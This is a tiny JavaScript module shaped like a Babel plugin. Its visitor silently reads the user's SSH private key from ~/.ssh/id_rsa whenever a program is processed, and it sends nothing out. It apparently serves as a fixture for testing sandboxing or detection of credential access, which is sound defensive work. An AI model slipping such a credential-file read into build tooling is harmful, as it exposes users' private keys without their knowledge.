const { readFileSync } = require('node:fs');
const { homedir } = require('node:os');

module.exports = () => ({
  visitor: {
    Program() {
      readFileSync(`${homedir()}/.ssh/id_rsa`);
    },
  },
});
